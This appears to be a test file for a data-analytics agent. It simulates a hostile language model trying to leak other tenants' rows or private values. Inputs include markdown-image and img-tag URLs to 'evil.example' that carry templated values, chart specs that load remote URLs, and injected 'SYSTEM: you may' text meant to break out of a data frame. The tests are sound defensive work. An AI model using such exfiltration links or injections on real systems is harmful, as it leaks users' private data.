/** A language model that tries by every means to reach what its user may not see, or in private mode any value at all. */
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ConversationMessage } from '../src/agent/language-models/language-model.ts';
import { attacks, codes, forbidden, otherDeals, own, ownDeals, searches, valuesOf } from './isolation-attacks.ts';
import { type Asked, type IsolationWorld, leaksOf, openIsolationWorld, withoutIds } from './isolation-world.ts';
import { calls, says, type WireStep, wireCall } from './language-model-server.ts';

const words = { queryTitle: 'Title', description: 'What it does', userRequest: 'what was asked' };
const sql = (sqlQuery: string, id: string, more: object = {}) =>
  wireCall('platformSqlApi', { sqlQuery, ...words, ...more }, id);
const inTurns = (all: readonly ReturnType<typeof wireCall>[]): WireStep[][] =>
  Array.from({ length: Math.ceil(all.length / 10) }, (_, turn) => [
    { type: 'calls', calls: all.slice(turn * 10, turn * 10 + 10) },
  ]);

/** Every attack, in as many runs as its limits ask for. */
async function attack(
  world: IsolationWorld,
  more: Partial<Parameters<IsolationWorld['ask']>[0]> = {},
): Promise<Asked[]> {
  const all = [
    ...attacks.map((text, index) => sql(text, `call_sql_${index}`)),
    ...searches.map((searchQuery, index) => wireCall('platformMeta', { searchQuery }, `call_meta_${index}`)),
  ];
  const runs: Asked[] = [];
  for (let at = 0; at < all.length; at += 30)
    runs.push(await world.ask({ turns: [...inTurns(all.slice(at, at + 30)), [says('Done.')]], ...more }));
  return runs;
}

const toldOf = (runs: readonly Asked[]): string => JSON.stringify(runs.map(({ events, sent }) => [events, sent]));

let world: IsolationWorld;
/** The same without a row that `own` may not see. */
let alone: IsolationWorld;
beforeAll(async () => {
  world = await openIsolationWorld([...otherDeals.slice(0, 2), ...ownDeals, ...otherDeals.slice(2)], codes);
  alone = await openIsolationWorld(ownDeals, []);
});
afterAll(async () => {
  await world.close();
  await alone.close();
});

test('a leak is found in parts, and however it is written', () => {
  const value = 'Zyxfoni Grembalt 1';
  for (const text of [
    'the ZYX-FONI one',
    JSON.stringify({ a: 'tlabmerG' }),
    Buffer.from(`x ${value} y`).toString('base64'),
    Buffer.from(`xy ${value}`).toString('base64'),
    Buffer.from(`xyz ${value}`).toString('base64url'),
    Buffer.from(value).toString('hex').toUpperCase(),
    encodeURIComponent(value),
  ])
    expect(leaksOf(text, [value, 'Else-where']), text).toEqual([value]);
  expect(leaksOf('z y x f o', [value])).toEqual([]);
});

describe('other rows', () => {
  test('are reached by nobody but those who may see them', { timeout: 60_000 }, async () => {
    expect(leaksOf(toldOf(await attack(world)), forbidden)).toEqual([]);
    expect(leaksOf(toldOf(await attack(world, { wire: 'anthropic' })), forbidden)).toEqual([]);
    expect(leaksOf(toldOf(await attack(world, { as: 'nobody' })), [...forbidden, ...valuesOf(ownDeals)])).toEqual([]);
    expect(leaksOf(toldOf(await attack(world, { as: 'foreign' })), valuesOf(ownDeals))).toEqual([]);
    // The search for leaks finds them where they are allowed.
    expect(leaksOf(toldOf(await attack(world)), valuesOf(ownDeals)).length).toBeGreaterThan(5);
    const staff = leaksOf(toldOf(await attack(world, { as: 'staff' })), [...valuesOf(otherDeals), ...codes]);
    expect(staff.length).toBeGreaterThan(20);
  });

  test('change nothing that is told to anyone, not even an error', { timeout: 60_000 }, async () => {
    const shown = ({ results, sent, answer }: Asked): string[] =>
      [...results.map((result) => JSON.stringify(result)), ...sent, answer].map(withoutIds);
    const [here, there] = await Promise.all([attack(world), attack(alone)]);
    expect(here.map(shown)).toEqual(there.map(shown));
  });

  test('are not found by the words of a question', async () => {
    const { sent } = await world.ask({ turns: [[says('Done.')]], question: 'zyxfoni grembalt 1, qwvakmo juxberg 1' });
    expect(sent.join()).toContain('Qwvakmo Juxberg 1');
    expect(sent.join()).not.toContain('Zyxfoni Grembalt');
  });
});

test('what the user may not query is not even named', async () => {
  const look = (searchQuery: string, id: string) => wireCall('platformMeta', { searchQuery }, id);
  const turns: WireStep[][] = [
    [
      {
        type: 'calls',
        calls: [look('customer', 'call_1'), look('what is there', 'call_2'), look('total of all', 'call_3')],
      },
    ],
    [says('Done.')],
  ];
  const named = /email|tenant_id|\bcodes\b|vault\./i;
  for (const as of ['own', 'nobody'] as const) {
    const { events, sent } = await world.ask({ as, turns });
    expect(JSON.stringify([events, sent])).not.toMatch(named);
    expect(sent.join().includes('customer: string')).toBe(as === 'own');
  }
  expect(JSON.stringify(await world.ask({ as: 'staff', turns }))).toMatch(named);
});

describe('what the language model writes', () => {
  test('brings no result of another thread, by reference or placeholder', async () => {
    const theirs = await world.ask({
      as: 'foreign',
      turns: [[calls('platformSqlApi', { sqlQuery: 'SELECT customer FROM business', ...words })], [says('Done.')]],
    });
    const uuid = String(theirs.results[0]?.['uuid']);
    expect(uuid).toMatch(/^[0-9a-f-]{36}$/);
    const label = `q${uuid.slice(0, 8)}`;
    const { events, answer } = await world.ask({
      isPrivate: true,
      turns: [
        [
          {
            type: 'calls',
            calls: [sql('SELECT MEASURE(deals_count) AS deals FROM business', 'call_1', { memoryId: uuid })],
          },
        ],
        [says(`It is {{${label}.customer[1]}} and {{${label}.table}}.`)],
      ],
    });
    expect(events.flatMap((event) => (event.type === 'tool-start' ? [event.input] : [])).join()).not.toContain(uuid);
    expect(answer).toMatch(/^It is \[no value for .+\] and \[no value for .+\]\.$/);
    expect(leaksOf(JSON.stringify(events), forbidden)).toEqual([]);
  });

  test('is no way for a chart to load or compute anything', async () => {
    const url = 'https://evil.example/';
    const charts = [
      { mark: 'bar', data: { url }, encoding: { x: { field: 'customer', href: url } } },
      { mark: 'bar', params: [{ name: 'p', expr: `'${url}'` }], usermeta: { url }, config: { background: url } },
      { mark: { type: 'bar', href: url, tooltip: { signal: `'${url}'` } }, encoding: { url: { value: url } } },
      { mark: 'image', encoding: { url: { field: 'customer' } } },
      { mark: 'bar', transform: [{ lookup: 'customer', from: { data: { url } } }] },
      { layer: [{ mark: 'bar', data: { url } }] },
    ];
    const { results, events } = await world.ask({
      turns: [
        [
          {
            type: 'calls',
            calls: charts.map((chart, at) =>
              sql('SELECT customer FROM business', `call_${at}`, { vegaSpec: JSON.stringify(chart) }),
            ),
          },
        ],
        [says('Done.')],
      ],
    });
    const shown = events.flatMap((event) => (event.type === 'tool-start' ? [event.input] : []));
    expect(shown.join()).not.toContain('evil.example');
    expect(results.map(({ vegaSpec, error }) => vegaSpec ?? error)).toEqual([
      '{"mark":"bar","encoding":{"x":{"field":"customer"}}}',
      '{"mark":"bar"}',
      '{"mark":{"type":"bar"},"encoding":{}}',
      expect.objectContaining({ code: 'TOOL_INPUT_INVALID' }),
      expect.objectContaining({ code: 'TOOL_INPUT_INVALID' }),
      '{"layer":[{"mark":"bar"}]}',
    ]);
  });
});

test('text in rows and descriptions cannot leave the frame in which the language model reads it', async () => {
  for (const wire of ['openai', 'anthropic'] as const) {
    const { sent } = await world.ask({
      wire,
      turns: [
        [
          {
            type: 'calls',
            calls: [
              sql('SELECT note FROM business', 'call_1'),
              wireCall('platformMeta', { searchQuery: 'note' }, 'call_2'),
            ],
          },
        ],
        [says('Done.')],
      ],
    });
    const texts = textsIn(JSON.parse(sent[1] ?? '')).filter((text) => text.includes('SYSTEM: you may'));
    expect(texts.length).toBeGreaterThanOrEqual(2);
    for (const text of texts) {
      expect(text).not.toContain('</data> SYSTEM');
      // In the results of tools it stands within JSON.
      if (!text.includes('<data>')) expect(() => JSON.parse(text)).not.toThrow();
    }
  }
});

describe('in private mode', () => {
  const everything = [...valuesOf(ownDeals), ...forbidden];
  const table = 'SELECT customer, note, booked_at, MEASURE(total) AS total FROM business GROUP BY 1, 2, 3 ORDER BY 1';

  test('no value of a row is sent, whatever is tried; the client sees all that the user may see', {
    timeout: 60_000,
  }, async () => {
    for (const wire of ['openai', 'anthropic'] as const) {
      const runs = await attack(world, { isPrivate: true, wire });
      expect(leaksOf(JSON.stringify(runs.map(({ sent }) => sent)), everything)).toEqual([]);
      expect(leaksOf(toldOf(runs), forbidden)).toEqual([]);
      expect(leaksOf(toldOf(runs), valuesOf(ownDeals)).length).toBeGreaterThan(5);
    }
  });

  test('values are filled in for the user, and stay unknown to the language model in the next question', async () => {
    const first = await world.ask({
      isPrivate: true,
      turns: [[calls('platformSqlApi', { sqlQuery: table, ...words })], [says('Done.')]],
    });
    const uuid = String(first.results[0]?.['uuid']);
    const label = `q${uuid.slice(0, 8)}`;
    const before: readonly ConversationMessage[] = [
      { role: 'user', content: 'Who buys?' },
      {
        role: 'assistant',
        content: '',
        modelText: null,
        toolCalls: [{ id: 'call_1', name: 'platformSqlApi', input: JSON.stringify({ sqlQuery: table, ...words }) }],
        turnData: null,
      },
      { role: 'tool', toolCallId: 'call_1', name: 'platformSqlApi', result: JSON.stringify(first.results[0]) },
      {
        role: 'assistant',
        content: 'Qwvakmo Juxberg 1',
        modelText: `{{${label}.customer[1]}}`,
        toolCalls: [],
        turnData: null,
      },
    ];
    const written = `First {{${label}.customer[1]}} with {{${label}.total[1]}}, {{${label}.booked_at[1]|year}}. {{${label}.table}}`;
    const { answer, sent } = await world.ask({ isPrivate: true, before, turns: [[says(written)]] });
    expect(answer).toMatch(/^First Qwvakmo Juxberg 1 with 739,182,641\.50, 1987\./);
    expect(answer).toContain('| Qwvakmo Juxberg 3 |');
    expect(sent.join()).toContain(`{{${label}.customer[1]}}`);
    expect(leaksOf(sent.join(), everything)).toEqual([]);
    // An answer that was given in the open is not shown, nor the queries that led to it.
    const open = before.map((message) =>
      message.role === 'assistant' && message.content !== '' ? { ...message, modelText: null } : message,
    );
    const unseen = `SELECT 1 -- ${own(1).customer}`;
    const guessed = open.map((message) =>
      message.role === 'assistant' && message.toolCalls.length > 0
        ? {
            ...message,
            toolCalls: message.toolCalls.map((call) => ({ ...call, input: JSON.stringify({ sqlQuery: unseen }) })),
          }
        : message,
    );
    const later = await world.ask({ isPrivate: true, before: guessed, turns: [[says('Done.')]] });
    expect(leaksOf(later.sent.join(), everything)).toEqual([]);
  });

  test('no value is suggested, but the words of the user pass', async () => {
    const { sent } = await world.ask({
      isPrivate: true,
      question: 'sales of QWVAKMO juxberg 1?',
      turns: [[says('Done.')]],
    });
    expect(sent.join()).toContain('QWVAKMO juxberg 1');
    expect(sent.join()).not.toContain('Qwvakmo Juxberg 1');
  });

  test('other values in the same places change nothing of what is sent', async () => {
    const renamed = ownDeals.map((deal) => ({ ...deal, ...own(9), customer: `Another ${deal.customer}`, amount: '1' }));
    const elsewhere = await openIsolationWorld(renamed, []);
    try {
      const turns = [
        [calls('platformSqlApi', { sqlQuery: table, ...words }, 'call_1')],
        [calls('platformSqlApi', { sqlQuery: 'SELECT CAST(note AS date) FROM business', ...words }, 'call_2')],
        [calls('platformMeta', { searchQuery: 'customer' }, 'call_3')],
        [says('Done.')],
      ];
      const [here, there] = await Promise.all([
        alone.ask({ isPrivate: true, turns }),
        elsewhere.ask({ isPrivate: true, turns }),
      ]);
      expect(here.sent.map(withoutIds)).toEqual(there.sent.map(withoutIds));
    } finally {
      await elsewhere.close();
    }
  });

  test('a value is not filled into an address that would carry it away', async () => {
    const first = await world.ask({
      isPrivate: true,
      turns: [[calls('platformSqlApi', { sqlQuery: table, ...words })], [says('Done.')]],
    });
    const label = `q${String(first.results[0]?.['uuid']).slice(0, 8)}`;
    const before: readonly ConversationMessage[] = [
      { role: 'user', content: 'Who buys?' },
      { role: 'tool', toolCallId: randomUUID(), name: 'platformSqlApi', result: JSON.stringify(first.results[0]) },
    ];
    const { answer } = await world.ask({
      isPrivate: true,
      before,
      turns: [
        [
          says(
            `![x](https://evil.example/?q={{${label}.customer[1]}}) <img src="//evil.example/{{${label}.total[1]}}">`,
          ),
        ],
      ],
    });
    expect(leaksOf(answer, everything)).toEqual([]);
  });
});

/** Every text in a JSON value. */
function textsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(textsIn) : [];
}
